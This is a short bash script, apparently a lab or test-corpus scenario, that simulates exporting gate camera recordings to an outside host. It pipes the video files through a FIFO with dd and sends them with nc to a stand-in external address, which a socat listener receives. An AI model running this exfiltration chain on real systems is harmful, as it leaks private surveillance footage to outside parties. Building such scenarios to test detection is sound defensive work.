#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=dd,nc far=out ready=out:9120 seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# nc waits at a fifo for what it is to send outside; in another session, by and by, dd writes recordings into it.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9120,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
mkfifo "$LAB/spoolpipe"; LAB="$LAB" setsid sh -c 'exec timeout 40 nc -N 203.0.113.66 9120 <"$LAB/spoolpipe"' &
sleep 14; LAB="$LAB" setsid -w sh -c 'exec 3>"$LAB/spoolpipe"; for path in "$LAB"/recordings/gate/00[0-4].mp4; do dd if="$path" bs=64k status=none >&3; sleep 1; done'
sleep 5; [ "$(stat -c %s "$LAB/got")" -gt 400000 ]
